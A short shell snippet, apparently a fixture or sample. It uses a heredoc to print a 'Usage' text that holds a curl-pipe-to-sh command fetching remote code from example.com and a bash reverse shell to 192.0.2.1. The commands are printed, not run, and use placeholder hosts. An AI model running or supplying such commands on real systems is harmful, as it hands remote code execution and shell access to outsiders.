cat <<EOF
Usage: curl -s http://example.com/x | sh
  bash -i >& /dev/tcp/192.0.2.1/1 0>&1
EOF
